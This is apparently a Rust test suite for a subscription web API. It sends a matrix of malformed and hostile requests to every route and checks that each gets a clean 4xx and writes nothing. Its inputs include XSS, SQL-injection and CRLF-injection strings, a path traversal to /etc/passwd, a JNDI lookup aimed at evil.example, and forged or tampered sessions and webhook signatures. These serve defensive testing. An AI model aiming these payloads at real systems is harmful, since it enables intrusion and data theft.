//! The bad-input matrix: one table of malformed, hostile and mistaken requests over
//! every route, each called in-process through its handler against the real
//! emulator and moto server. Every bad case must answer its 4xx with a clear
//! `{"error":{"message":…}}` (never a 5xx) and write nothing: the table's items and
//! the emulator's log of Stripe writes are compared before and after each case.
//! Odd but valid emails (plus-addressing, Unicode, mixed case) must succeed and be
//! normalised.

use devchat::api::site;
use devchat_kit::{
    CARD_OK, Options, Route, Signed, Stack, call_as, request, sign_in_with_code, sign_up, subscribe,
};
use lambda_http::Body;
use serde_json::json;
use stripe_webhook::Webhook;

mod sign_in;

/// One row of the matrix.
struct Case {
    name: String,
    route: Route,
    method: &'static str,
    /// As whom the request is made: `Some(user)` sends their `user_id` (and session).
    user: Option<Signed>,
    query: Vec<(&'static str, String)>,
    headers: Vec<(&'static str, String)>,
    body: Body,
    status: u16,
    /// A piece of the message the client must see.
    says: &'static str,
}

impl Case {
    fn new(name: impl Into<String>, route: Route, status: u16, says: &'static str) -> Case {
        Case {
            name: name.into(),
            route,
            method: route.method(),
            user: None,
            query: Vec::new(),
            headers: Vec::new(),
            body: Body::Empty,
            status,
            says,
        }
    }
    fn by(mut self, user: &Signed) -> Case {
        self.user = Some(user.clone());
        self
    }
    fn query(mut self, name: &'static str, value: impl Into<String>) -> Case {
        self.query.push((name, value.into()));
        self
    }
    fn header(mut self, name: &'static str, value: impl Into<String>) -> Case {
        self.headers.push((name, value.into()));
        self
    }
    fn body(mut self, body: impl Into<Body>) -> Case {
        self.body = body.into();
        self
    }
    fn method(mut self, method: &'static str) -> Case {
        self.method = method;
        self
    }

    fn request(&self) -> lambda_http::Request {
        let mut query: Vec<(&str, &str)> = Vec::new();
        let mut headers: Vec<(&str, String)> = vec![("content-type", "application/json".into())];
        if let Some(user) = &self.user {
            query.push(("user_id", &user.id));
            headers.extend(user.cookie.iter().map(|c| ("cookie", c.clone())));
        }
        query.extend(self.query.iter().map(|(k, v)| (*k, v.as_str())));
        headers.extend(self.headers.iter().cloned());
        let headers: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        request(
            self.method,
            self.route.path(),
            &query,
            &headers,
            self.body.clone(),
        )
    }
}

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1' --",
    "x'; DROP TABLE users;--",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "cus_1\r\nSet-Cookie: a=b",
    "cus_\u{0}nul",
];

#[tokio::test]
async fn every_bad_input_is_a_clear_4xx_and_writes_nothing() {
    let stack = Stack::start(Options::provisioned()).await;
    let (app, catalog) = (stack.app, stack.catalog().clone());
    // The cast: a monthly subscriber, a user without a subscription, and a Checkout
    // Session of the subscriber's that the other must not be able to use.
    let subscriber = sign_up(app, "subscriber@example.com").await;
    let session_id = subscribe(&stack, app, &subscriber, &catalog.monthly_price.id, CARD_OK)
        .await
        .session_id;
    // The subscriber's one monthly session, arranged: a second is refused below.
    let first = devchat_kit::call_as(
        app,
        Route::Schedule,
        &subscriber,
        &[],
        &[("idempotency-key", "first-session")],
        "",
    )
    .await;
    assert_eq!(first.status, 200, "{}", first.body);
    let other = sign_up(app, "other@example.com").await;
    // A real Stripe price that is not ours (another product, no challenge_id).
    let product = stack
        .stripe_post("/products", &[("name", "Someone else's product")])
        .await;
    let foreign = stack
        .stripe_post(
            "/prices",
            &[
                ("product", product["id"].as_str().unwrap()),
                ("currency", "usd"),
                ("unit_amount", "100"),
                ("recurring[interval]", "month"),
            ],
        )
        .await;
    let foreign_price = foreign["id"].as_str().unwrap().to_owned();
    let event = json!({ "id": "evt_1", "object": "event", "type": "customer.subscription.updated", "created": devchat_kit::now(),
        "data": { "object": { "id": "sub_x", "object": "subscription", "customer": subscriber.id, "status": "canceled" } } })
    .to_string();

    let oversized = format!(
        r#"{{"email":"{}@example.com","pad":"{}"}}"#,
        "a",
        "x".repeat(65 * 1024)
    );
    let mut cases: Vec<Case> = Vec::new();

    // Every route: the wrong method, and a body over 64 KB.
    for route in Route::ALL {
        let wrong = if route.method() == "GET" {
            "POST"
        } else {
            "GET"
        };
        cases.push(
            Case::new(
                format!("{route:?}: wrong method {wrong}"),
                route,
                405,
                "is not allowed here",
            )
            .method(wrong)
            .by(&other),
        );
        cases.push(
            Case::new(
                format!("{route:?}: DELETE"),
                route,
                405,
                "is not allowed here",
            )
            .method("DELETE")
            .by(&other),
        );
        if route.method() == "POST" {
            cases.push(
                Case::new(
                    format!("{route:?}: body over 64 KB"),
                    route,
                    413,
                    "larger than 64 KB",
                )
                .by(&other)
                .body(oversized.clone()),
            );
        }
    }

    // POST /users.
    let signup = |name: &str, body: &str, status, says| {
        Case::new(format!("sign-up: {name}"), Route::SignUp, status, says).body(body.to_owned())
    };
    cases.push(Case::new(
        "sign-up: missing body",
        Route::SignUp,
        400,
        "request body is missing",
    ));
    cases.push(signup("blank body", "  \n", 400, "request body is missing"));
    cases.push(signup("invalid JSON", "{\"email\":", 400, "not valid JSON"));
    cases.push(signup(
        "not JSON at all",
        "email=a@b.co",
        400,
        "not valid JSON",
    ));
    cases.push(
        Case::new(
            "sign-up: body not UTF-8",
            Route::SignUp,
            400,
            "not valid JSON",
        )
        .body(vec![0xff, 0xfe, b'{', 0x80]),
    );
    cases.push(signup(
        "email is a number",
        r#"{"email":42}"#,
        400,
        "invalid type",
    ));
    cases.push(signup(
        "email is null",
        r#"{"email":null}"#,
        400,
        "invalid type",
    ));
    cases.push(signup(
        "email is an array",
        r#"{"email":["a@b.co"]}"#,
        400,
        "invalid type",
    ));
    cases.push(signup(
        "body is an array",
        r#"["a@b.co"]"#,
        400,
        "invalid type",
    ));
    cases.push(signup(
        "body is a string",
        r#""a@b.co""#,
        400,
        "invalid type",
    ));
    cases.push(signup(
        "no email field",
        r#"{"mail":"a@b.co"}"#,
        400,
        "missing field `email`",
    ));
    for email in [
        "",
        "   ",
        "ada",
        "ada@",
        "@example.com",
        "ada@example",
        "ada@@example.com",
        "ada@example..com",
        &format!("{}@example.com", "a".repeat(300)),
    ] {
        cases.push(signup(
            &format!("invalid email {email:.20?}"),
            &json!({ "email": email }).to_string(),
            400,
            "invalid email address",
        ));
    }
    for markup in MARKUP {
        let email = format!("{markup}@example.com");
        cases.push(signup(
            &format!("markup email {markup:?}"),
            &json!({ "email": email }).to_string(),
            400,
            "invalid email address",
        ));
    }
    cases.push(signup(
        "header injection in the email",
        &json!({ "email": "a@b.co\r\nBcc: all@example.com" }).to_string(),
        400,
        "invalid email address",
    ));

    // GET /users.
    let unknown_users: Vec<String> = ["cus_doesnotexist".to_owned()]
        .into_iter()
        .chain(MARKUP.iter().map(|m| m.to_string()))
        .collect();
    cases.push(Case::new(
        "get-user: no user_id",
        Route::GetUser,
        400,
        "user_id query parameter is required",
    ));
    cases.push(
        Case::new(
            "get-user: blank user_id",
            Route::GetUser,
            400,
            "user_id query parameter is required",
        )
        .query("user_id", "  "),
    );
    cases.push(
        Case::new(
            "get-user: another customer's session_id",
            Route::GetUser,
            403,
            "belongs to another customer",
        )
        .by(&other)
        .query("session_id", &session_id),
    );
    cases.push(
        Case::new(
            "get-user: unknown session_id",
            Route::GetUser,
            400,
            "unknown Checkout Session",
        )
        .by(&other)
        .query("session_id", "cs_test_doesnotexist"),
    );
    for markup in MARKUP {
        cases.push(
            Case::new(
                format!("get-user: markup session_id {markup:?}"),
                Route::GetUser,
                400,
                "unknown Checkout Session",
            )
            .by(&other)
            .query("session_id", *markup),
        );
    }

    // POST /offerings/paircode.
    let price_body = |price: &str| json!({ "price": price }).to_string();
    cases.push(
        Case::new(
            "checkout: no user_id",
            Route::Checkout,
            400,
            "user_id query parameter is required",
        )
        .body(price_body(&catalog.monthly_price.id)),
    );
    cases.push(
        Case::new(
            "checkout: missing body",
            Route::Checkout,
            400,
            "request body is missing",
        )
        .by(&other),
    );
    cases.push(
        Case::new(
            "checkout: invalid JSON",
            Route::Checkout,
            400,
            "not valid JSON",
        )
        .by(&other)
        .body("{price}"),
    );
    cases.push(
        Case::new(
            "checkout: price is a number",
            Route::Checkout,
            400,
            "invalid type",
        )
        .by(&other)
        .body(r#"{"price":6000}"#),
    );
    cases.push(
        Case::new(
            "checkout: no price field",
            Route::Checkout,
            400,
            "missing field `price`",
        )
        .by(&other)
        .body("{}"),
    );
    cases.push(
        Case::new(
            "checkout: a price that isn't ours",
            Route::Checkout,
            400,
            "is not one of our prices",
        )
        .by(&other)
        .body(price_body(&foreign_price)),
    );
    cases.push(
        Case::new(
            "checkout: an unknown price",
            Route::Checkout,
            400,
            "is not one of our prices",
        )
        .by(&other)
        .body(price_body("price_doesnotexist")),
    );
    cases.push(
        Case::new(
            "checkout: already subscribed",
            Route::Checkout,
            409,
            "already have a monthly subscription",
        )
        .by(&subscriber)
        .body(price_body(&catalog.ondemand_price.id)),
    );
    for markup in MARKUP {
        cases.push(
            Case::new(
                format!("checkout: markup price {markup:?}"),
                Route::Checkout,
                400,
                "is not one of our prices",
            )
            .by(&other)
            .body(price_body(markup)),
        );
    }

    // POST /offerings/paircode/schedule.
    cases.push(Case::new(
        "schedule: no user_id",
        Route::Schedule,
        400,
        "user_id query parameter is required",
    ));
    cases.push(
        Case::new(
            "schedule: no subscription",
            Route::Schedule,
            409,
            "no subscription",
        )
        .by(&other),
    );
    cases.push(
        Case::new(
            "schedule: a monthly subscriber's second session this period",
            Route::Schedule,
            409,
            "this month's is already arranged",
        )
        .by(&subscriber),
    );
    cases.push(
        Case::new(
            "schedule: invalid JSON body",
            Route::Schedule,
            400,
            "not valid JSON",
        )
        .by(&other)
        .body("{]"),
    );
    cases.push(
        Case::new(
            "schedule: body is an array",
            Route::Schedule,
            400,
            "invalid type",
        )
        .by(&other)
        .body("[1]"),
    );
    for key in ["", "has space", "<script>", "ünïcode", &"k".repeat(101)] {
        cases.push(
            Case::new(
                format!("schedule: bad Idempotency-Key {key:.20?}"),
                Route::Schedule,
                400,
                "header must be",
            )
            .by(&other)
            .header("idempotency-key", key),
        );
    }

    // POST /users/portal.
    cases.push(Case::new(
        "portal: no user_id",
        Route::Portal,
        400,
        "user_id query parameter is required",
    ));
    cases.push(
        Case::new(
            "portal: invalid JSON body",
            Route::Portal,
            400,
            "not valid JSON",
        )
        .by(&other)
        .body("{\"priceType\""),
    );
    cases.push(
        Case::new(
            "portal: priceType is a number",
            Route::Portal,
            400,
            "invalid type",
        )
        .by(&other)
        .body(r#"{"priceType":1}"#),
    );

    // Unknown users, including markup and injection strings as ids, on every user-scoped route.
    for id in &unknown_users {
        for route in [
            Route::GetUser,
            Route::Checkout,
            Route::Schedule,
            Route::Portal,
        ] {
            let body = if route == Route::Checkout {
                price_body(&catalog.monthly_price.id)
            } else {
                String::new()
            };
            // Without a session, then signed in as someone else.
            cases.push(
                Case::new(
                    format!("{route:?}: unknown user {id:?}, no session"),
                    route,
                    401,
                    "no session",
                )
                .query("user_id", id.clone())
                .body(body.clone()),
            );
            cases.push(
                Case::new(
                    format!("{route:?}: unknown user {id:?}, another's session"),
                    route,
                    403,
                    "signed in as another user",
                )
                .query("user_id", id.clone())
                .header("cookie", other.cookie.clone().unwrap())
                .body(body),
            );
        }
    }

    // Sessions on every user-scoped route: none, forged, expired, tampered, or another user's.
    let secret = &app.config.session_secret;
    let minted = |user: &str, secret: &str, at: i64| {
        let set = devchat::session::cookie(secret, user, 0, at, false).unwrap();
        set.split(';').next().unwrap().to_owned()
    };
    let expired = minted(
        &other.id,
        secret,
        devchat_kit::now() - devchat::session::SESSION_SECONDS - 1,
    );
    let forged = minted(
        &subscriber.id,
        "a-guessed-secret-of-thirty-two-chars",
        devchat_kit::now(),
    );
    let tampered = other
        .cookie
        .clone()
        .unwrap()
        .replace(&other.id, &subscriber.id);
    for route in [
        Route::GetUser,
        Route::Checkout,
        Route::Schedule,
        Route::Portal,
    ] {
        let body = if route == Route::Checkout {
            price_body(&catalog.monthly_price.id)
        } else {
            String::new()
        };
        let as_subscriber = |name: &str, status, says| {
            Case::new(format!("{route:?}: {name}"), route, status, says)
                .query("user_id", subscriber.id.clone())
                .body(body.clone())
        };
        cases.push(as_subscriber("no session", 401, "no session"));
        cases.push(
            as_subscriber("another user's session", 403, "signed in as another user")
                .header("cookie", other.cookie.clone().unwrap()),
        );
        cases.push(
            as_subscriber("a forged session", 401, "not valid").header("cookie", forged.clone()),
        );
        cases.push(
            as_subscriber("a session edited to name another user", 401, "not valid")
                .header("cookie", tampered.clone()),
        );
        cases.push(
            Case::new(
                format!("{route:?}: an expired session"),
                route,
                401,
                "expired",
            )
            .query("user_id", other.id.clone())
            .header("cookie", expired.clone())
            .body(body.clone()),
        );
    }

    // POST /users/sign-in, POST /users/sign-out, and the Origin rule (inputs/sign_in.rs).
    cases.extend(sign_in::cases(
        &other, &catalog, &forged, &tampered, &expired,
    ));

    // POST /webhook.
    let signed = |payload: &str| {
        Webhook::generate_test_header(payload, app.config.webhook_secret().unwrap(), None)
    };
    let hook = |name: &str, status, says| {
        Case::new(format!("webhook: {name}"), Route::Webhook, status, says)
    };
    cases.push(hook("no signature", 400, "No Stripe-Signature header").body(event.clone()));
    cases.push(
        hook(
            "empty signature",
            400,
            "Unable to extract timestamp and signatures from header",
        )
        .body(event.clone())
        .header("stripe-signature", ""),
    );
    cases.push(
        hook(
            "garbage signature",
            400,
            "Unable to extract timestamp and signatures from header",
        )
        .body(event.clone())
        .header("stripe-signature", "<script>alert(1)</script>"),
    );
    cases.push(
        hook("no v1", 400, "No signatures found with expected scheme")
            .body(event.clone())
            .header("stripe-signature", format!("t={}", devchat_kit::now())),
    );
    cases.push(
        hook("wrong signature", 400, "No signatures found matching")
            .body(event.clone())
            .header(
                "stripe-signature",
                format!("t={},v1={}", devchat_kit::now(), "ab".repeat(32)),
            ),
    );
    cases.push(
        hook("wrong secret", 400, "No signatures found matching")
            .body(event.clone())
            .header(
                "stripe-signature",
                Webhook::generate_test_header(&event, "whsec_not_ours", None),
            ),
    );
    let stale = Webhook::generate_test_header(
        &event,
        app.config.webhook_secret().unwrap(),
        Some(devchat_kit::now() - 3_600),
    );
    cases.push(
        hook(
            "timestamp an hour old",
            400,
            "Timestamp outside the tolerance zone",
        )
        .body(event.clone())
        .header("stripe-signature", stale),
    );
    let altered = event.replace("canceled", "cancelez");
    cases.push(
        hook(
            "body altered after signing",
            400,
            "No signatures found matching",
        )
        .body(altered)
        .header("stripe-signature", signed(&event)),
    );
    cases.push(
        hook("signed, not an event", 400, "not a Stripe event")
            .body(r#"{"hello":"world"}"#)
            .header("stripe-signature", signed(r#"{"hello":"world"}"#)),
    );
    cases.push(
        hook("signed, not JSON", 400, "not a Stripe event")
            .body("<xml/>")
            .header("stripe-signature", signed("<xml/>")),
    );
    cases.push(
        hook("body not UTF-8", 400, "not UTF-8")
            .body(vec![0xc3, 0x28])
            .header("stripe-signature", signed("x")),
    );
    cases.push(
        hook("missing body", 400, "not a Stripe event").header("stripe-signature", signed("")),
    );

    assert!(cases.len() >= 100, "the matrix has {} cases", cases.len());
    let mut failures = Vec::new();
    for case in &cases {
        let before = (
            stack.items().await,
            stack.emulator.writes().await.expect("emulator").len(),
        );
        let answer = case.route.call(app, case.request()).await;
        let after = (
            stack.items().await,
            stack.emulator.writes().await.expect("emulator").len(),
        );
        let message = answer.body["error"]["message"].as_str().unwrap_or_default();
        if answer.status != case.status || !message.contains(case.says) || message.trim().len() < 10
        {
            failures.push(format!(
                "{}: expected {} {:?}, got {} {}",
                case.name, case.status, case.says, answer.status, answer.body
            ));
        }
        if before.0 != after.0 {
            failures.push(format!("{}: the table changed", case.name));
        }
        if before.1 != after.1 {
            failures.push(format!(
                "{}: {} Stripe write(s)",
                case.name,
                after.1 - before.1
            ));
        }
        if answer
            .headers
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            != Some("application/json")
        {
            failures.push(format!("{}: the error is not JSON", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    eprintln!(
        "bad-input matrix: {} cases over {} routes, all 4xx, nothing written",
        cases.len(),
        Route::ALL.len()
    );
}

#[tokio::test]
async fn odd_but_valid_emails_sign_up_normalised() {
    let stack = Stack::start(Options::provisioned()).await;
    let app = stack.app;
    for (raw, normalised, again) in [
        (
            "Ada.Lovelace+billing@Example.COM",
            "ada.lovelace+billing@example.com",
            "ada.lovelace+BILLING@example.com",
        ),
        (
            "  ÉLODIE.Dupré@Exemple.FR \n",
            "élodie.dupré@exemple.fr",
            "élodie.dupré@EXEMPLE.fr",
        ),
        ("用户@例子.广告", "用户@例子.广告", " 用户@例子.广告 "),
        (
            "MiXeD.CaSe@Sub.Domain.Example.org",
            "mixed.case@sub.domain.example.org",
            "mixed.case@sub.domain.example.ORG",
        ),
        (
            "first.o-hara_{tag}!#$%&*=?^~@example.com",
            "first.o-hara_{tag}!#$%&*=?^~@example.com",
            "FIRST.O-HARA_{TAG}!#$%&*=?^~@example.com",
        ),
    ] {
        let user = sign_up(app, raw).await;
        assert_eq!(user.email, normalised, "{raw:?}");
        assert!(user.id.starts_with("cus_"), "{user:?}");
        let same = sign_in_with_code(&stack, app, again).await;
        assert_eq!(same.id, user.id, "{again:?} is the same user as {raw:?}");
        let customer = stack.stripe_get(&format!("/customers/{}", user.id)).await;
        assert_eq!(customer["email"], normalised);
        assert_eq!(
            customer["metadata"]["challenge_id"],
            devchat_kit::CHALLENGE_ID
        );
    }
    let customers = stack.stripe_get("/customers?limit=100").await;
    assert_eq!(
        customers["data"].as_array().unwrap().len(),
        5,
        "one customer per address"
    );
    // A well-formed but different address is a different user.
    assert_ne!(
        sign_up(app, "ada.lovelace@example.com").await.id,
        sign_in_with_code(&stack, app, "ada.lovelace+billing@example.com")
            .await
            .id
    );
}

#[tokio::test]
async fn sign_up_opens_a_session() {
    let _stack = Stack::start(Options::provisioned()).await;
    let app = _stack.app;
    for (n, (proto, secure)) in [(None, false), (Some("https"), true), (Some("http"), false)]
        .into_iter()
        .enumerate()
    {
        let headers: Vec<(&str, &str)> = proto
            .map(|p| ("x-forwarded-proto", p))
            .into_iter()
            .collect();
        let body = Body::Text(json!({ "email": format!("cookie{n}@example.com") }).to_string());
        let answer = Route::SignUp
            .call(app, request("POST", "/users", &[], &headers, body))
            .await;
        assert_eq!(answer.status, 200, "{}", answer.body);
        let set = answer
            .headers
            .get("set-cookie")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default();
        let name = if secure {
            devchat::session::HOST_COOKIE
        } else {
            devchat::session::COOKIE
        };
        assert!(set.starts_with(&format!("{name}=")), "{set}");
        for attribute in ["HttpOnly", "SameSite=Lax", "Path=/", "Max-Age=2592000"] {
            assert!(set.contains(attribute), "{attribute} missing: {set}");
        }
        assert_eq!(set.contains("; Secure"), secure, "{proto:?}: {set}");
        // The session names the user who signed up, and works on their routes.
        let user = Signed {
            id: answer.body["id"].as_str().unwrap().to_owned(),
            email: String::new(),
            cookie: answer.session_cookie(),
        };
        assert_eq!(
            call_as(app, Route::GetUser, &user, &[], &headers, "")
                .await
                .status,
            200
        );
    }
}

#[tokio::test]
async fn site_pages_carry_the_security_headers() {
    let files = [site::File {
        path: "index.html",
        bytes: b"<!doctype html>",
        etag: "\"1\"",
    }];
    for (method, path, status) in [
        ("GET", "/", 200),
        ("POST", "/", 405),
        ("GET", "/nope", 404),
        ("GET", "/assets/../../etc/passwd", 404),
        ("DELETE", "/login", 405),
    ] {
        let response = site::handle(&files, &request(method, path, &[], &[], Body::Empty));
        assert_eq!(response.status().as_u16(), status, "{method} {path}");
        let header = |name: &str| {
            response
                .headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned()
        };
        let csp = header("content-security-policy");
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
            "{csp}"
        );
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert!(!header("referrer-policy").is_empty());
    }
}

#[tokio::test]
async fn a_user_id_can_be_checked_against_its_own_data_only() {
    // The same user-scoped calls succeed for the user they name (the matrix above is not
    // failing merely because the cast cannot do anything).
    let _stack = Stack::start(Options::provisioned()).await;
    let (app, catalog) = (_stack.app, _stack.catalog().clone());
    let user = sign_up(app, "able@example.com").await;
    let answer = call_as(app, Route::GetUser, &user, &[], &[], "").await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    let answer = call_as(
        app,
        Route::Checkout,
        &user,
        &[],
        &[],
        &json!({ "price": catalog.monthly_price.id }).to_string(),
    )
    .await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    let answer = call_as(
        app,
        Route::Portal,
        &user,
        &[],
        &[],
        r#"{"priceType":"monthly"}"#,
    )
    .await;
    assert_eq!(answer.status, 200, "{}", answer.body);
}
